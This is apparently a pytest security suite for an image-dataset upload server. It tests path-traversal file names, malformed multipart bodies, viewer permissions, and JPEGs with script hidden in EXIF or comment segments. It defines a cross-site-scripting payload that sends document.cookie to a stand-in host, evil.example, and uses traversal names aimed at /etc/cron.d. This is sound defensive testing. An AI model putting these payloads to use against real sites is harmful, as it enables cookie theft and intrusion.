"""Uploads of people who mean harm, or know no better: names, bodies and contents, against a real server."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from tests.explore import Client, Running, laboratory, refusal
from tests.explore_life import (
    failures_of,
    files_below,
    folder_of,
    images_of,
    jpeg,
    pictures,
    received,
    wait_for,
)
from tests.servers import RunningServer

MIB = 2**20
MAX_FILE_BYTES, MAX_FILES = 4 * MIB, 60
BOUNDARY = b"hostile"
SCRIPT = b"<script>fetch('https://evil.example/'+document.cookie)</script>"


@pytest.fixture(scope="module")
def running(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    """A server of low limits with the keys ann and bob."""
    limits = {"max_upload_file_bytes": MAX_FILE_BYTES, "max_upload_files": MAX_FILES}
    with laboratory(tmp_path_factory.mktemp("hostile") / "home", **limits) as running:
        yield running
        faults = [line for line in running[0].lines() if line["level"] == "error"]
        assert faults == []


@pytest.fixture
def path(ann: Client, server: RunningServer) -> Iterator[str]:
    """Where files are uploaded to; nothing but them is left on the disk, and nothing outside."""
    dataset = ann.new_dataset()
    outside = files_below(server.home.parent) - files_below(server.home / "datasets")
    yield f"/ingestion/{dataset}/data_files/{ann.begin(dataset)}"
    wait_for(lambda: not staged(server), "an empty staging folder")
    changed = {"server.log", "datasets.sqlite", "datasets.sqlite-wal", "datasets.sqlite-shm"}
    new = files_below(server.home.parent) - outside
    assert {name for name in new if "/datasets/" not in name and Path(name).name not in changed} == set()
    ann.delete(f"/dataset/{dataset}")


def staged(server: RunningServer) -> set[str]:
    """What lies in staging folders."""
    return {name for name in files_below(server.home / "datasets") if "staging" in name.split("/")}


def dataset_in(path: str) -> str:
    return path.split("/")[2]


def body_of(*parts: tuple[bytes, bytes]) -> bytes:
    """A multipart body of raw headers and contents."""
    pieces = [b"--%b\r\n%b\r\n\r\n%b\r\n" % (BOUNDARY, head, data) for head, data in parts]
    return b"".join(pieces) + b"--%b--\r\n" % BOUNDARY


def named(name: bytes, data: bytes = b"data", field: bytes = b"files") -> tuple[bytes, bytes]:
    """A part with a file name as it is."""
    return b'Content-Disposition: form-data; name="%b"; filename="%b"' % (field, name), data


def send(client: Client, path: str, body: bytes) -> httpx.Response:
    kind = f"multipart/form-data; boundary={BOUNDARY.decode()}"
    return client.post(path, content=body, headers={"Content-Type": kind})


# -- names -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        (b"../../../../escape.jpg", "escape.jpg"),
        (b"/etc/cron.d/evil.jpg", "evil.jpg"),
        (rb"C:\\Windows\\evil.jpg", "evil.jpg"),
        (b"..%2f..%2fescape.jpg", "..%2f..%2fescape.jpg".lstrip(".")),
        (b"nul\0byte.jpg", "nulbyte.jpg"),
        (b".hidden.jpg", "hidden.jpg"),
        (b"....jpg", "jpg"),
        (b"line\tbreak.jpg", "linebreak.jpg"),
        ("\u202egpj.exe.jpg".encode(), "\u202egpj.exe.jpg"),
        (b"caf\xe9.jpg", "café.jpg"),
        (b"n" * 300 + b".jpg", "n" * 251 + ".jpg"),
        ("é".encode() * 150 + b".jpg", "é" * 125 + ".jpg"),
    ],
)
def test_names_lead_nowhere_else(
    ann: Client, server: RunningServer, path: str, name: bytes, kept: str
) -> None:
    sent = send(ann, path, body_of(named(name)))
    if kept == "jpg":
        assert "Unsupported format" in refusal(sent, 400)
        return
    assert sent.status_code == 202, sent.text
    assert received(server, dataset_in(path)) == {kept}
    assert not list(server.home.parent.glob("**/escape.jpg")) or kept == "escape.jpg"


@pytest.mark.parametrize("name", [b"", b".", b"..", b"folder/", rb"a\\.."])
def test_names_of_no_file_are_refused(ann: Client, server: RunningServer, path: str, name: bytes) -> None:
    refusal(send(ann, path, body_of(named(b"good.jpg"), named(name))), 400)
    assert received(server, dataset_in(path)) == set(), "all files of a request or none"


def test_files_of_one_name_are_all_kept(ann: Client, server: RunningServer) -> None:
    dataset = ann.new_dataset()
    transaction = ann.begin(dataset)
    twice = body_of(named(b"same.jpg", jpeg(1)), named(b"x/same.jpg", jpeg(2)))
    path = f"/ingestion/{dataset}/data_files/{transaction}"
    for body in (twice, body_of(named(b"same.jpg", jpeg(3))), twice):
        assert send(ann, path, body).status_code == 202
    ann.process(dataset, transaction)
    assert ann.wait_ready(dataset)["n_images"] == 5
    assert [name.split("/")[-1] for name in images_of(ann, dataset)] == ["same.jpg"] * 5


# -- bodies ----------------------------------------------------------------------------------------


def test_wrong_bodies_are_refused_by_their_documented_code(
    ann: Client, server: RunningServer, path: str
) -> None:
    good = body_of(named(b"good.jpg"))
    wrong = {
        "a wrong field": (body_of(named(b"good.jpg"), named(b"a.jpg", field=b"photos")), 422, "'photos'"),
        "a video": (body_of(named(b"good.jpg"), named(b"film.mp4")), 422, "video"),
        "labels of objects": (body_of(named(b"object_annotations.csv")), 422, "object_annotations"),
        "text": (body_of(named(b"good.jpg"), named(b"notes.txt")), 400, "Unsupported format"),
        "no extension": (body_of(named(b"good")), 400, "Unsupported format"),
        "SVG": (body_of(named(b"drawing.svg", b"<svg/>")), 400, "Unsupported format"),
        "an archive": (body_of(named(b"a.zip")), 400, "Unsupported format"),
        "no file": (b"--%b--\r\n" % BOUNDARY, 400, "no file"),
        "a field": (body_of((b'Content-Disposition: form-data; name="files"', b"x")), 400, "no file"),
        "cut off": (good[:-20], 400, "breaks off"),
        "empty": (b"", 400, "breaks off"),
        "no multipart inside": (b"hello", 400, "multipart"),
        "too many files": (body_of(*[named(b"a.jpg")] * (MAX_FILES + 1)), 400, "files"),
        "too large a file": (body_of(named(b"a.jpg", bytes(MAX_FILE_BYTES + 1))), 400, "a.jpg"),
    }
    for what, (body, code, words) in wrong.items():
        assert words in refusal(send(ann, path, body), code), what
    assert "multipart/form-data" in refusal(ann.post(path, content=good), 422)
    assert "multipart/form-data" in refusal(ann.post(path, json={"files": []}), 422)
    assert "boundary" in refusal(
        ann.post(path, content=good, headers={"Content-Type": "multipart/form-data"}), 422
    )
    assert received(server, dataset_in(path)) == set()
    assert send(ann, path, good.replace(b"files", b"files[]")).status_code == 202, "the older name"


def test_a_viewer_uploads_nothing(ann: Client, bob: Client, server: RunningServer, ready: str) -> None:
    assert ann.put(f"/manage/{ready}/invite", json={"grant_to_user_email": "bob"}).status_code == 200
    transaction = ann.begin(ready)
    form = [("files", file) for file in pictures(1, 50).items()]
    before = files_below(folder_of(server, ready))
    assert bob.status(ready)["status_new"] == "READY"
    for path in (
        f"/ingestion/{ready}/data_files/{transaction}",
        f"/ingestion/{ready}/process_files/{transaction}",
        f"/dataset/{ready}/add_media",
        f"/dataset/{ready}/reindex",
    ):
        assert "shared" in refusal(bob.post(path, files=form), 403), path
    assert "shared" in refusal(bob.get(f"/ingestion/{ready}/data_files"), 403)
    assert "shared" in refusal(bob.delete(f"/dataset/{ready}"), 403)
    assert files_below(folder_of(server, ready)) == before


# -- contents --------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def contents() -> dict[str, bytes]:
    """Files that are no pictures, or more than pictures, by name."""
    whole = jpeg(7)
    exif = b"Exif\0\0MM\0*\0\0\0\x08\0\1\1\x0e\0\2" + len(SCRIPT).to_bytes(4, "big") + b"\0\0\0\x1a" + SCRIPT
    segment = b"\xff\xe1" + (len(exif) + 2).to_bytes(2, "big") + exif
    comment = b"\xff\xfe" + (len(SCRIPT) + 2).to_bytes(2, "big") + SCRIPT
    return {
        "page.jpg": b"<!DOCTYPE html><html><body>" + SCRIPT,
        "drawing.png": b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
        "empty.jpg": b"",
        "exif.jpg": whole[:2] + segment + whole[2:],
        "comment.jpg": whole[:2] + comment + whole[2:],
        "behind.jpg": whole + b"<html>" + SCRIPT,
        "good.jpg": jpeg(8),
    }


@pytest.fixture(scope="module")
def ready(ann: Client, contents: dict[str, bytes]) -> str:
    """A READY dataset of them."""
    return ann.make_dataset(contents)


def test_what_is_no_picture_is_a_failure_with_a_name(ann: Client, ready: str) -> None:
    failures = failures_of(ann, ready)
    assert set(failures) == {"page.jpg", "drawing.png", "empty.jpg"}
    assert "HTML" in failures["page.jpg"] and "SVG" in failures["drawing.png"]
    assert images_of(ann, ready) == ["behind.jpg", "comment.jpg", "exif.jpg", "good.jpg"]


def test_scripts_in_pictures_are_served_as_pictures(
    ann: Client, ready: str, contents: dict[str, bytes]
) -> None:
    previews = {
        preview["file_name"]: preview
        for cluster in ann.explore(ready)["clusters"]
        for preview in cluster["previews"]
    }
    for name, preview in previews.items():
        image = httpx.get(preview["media_uri"], verify=False, headers={"Accept": "text/html"})
        small = httpx.get(preview["media_thumb_uri"], verify=False)
        assert image.content == contents[name]
        assert SCRIPT not in small.content
        assert image.headers["content-type"] == "image/jpeg"
        assert small.headers["content-type"] == "image/webp"
        for answer in (image, small):
            assert answer.headers["x-content-type-options"] == "nosniff"
            assert answer.headers["content-security-policy"] == "default-src 'none'; sandbox"
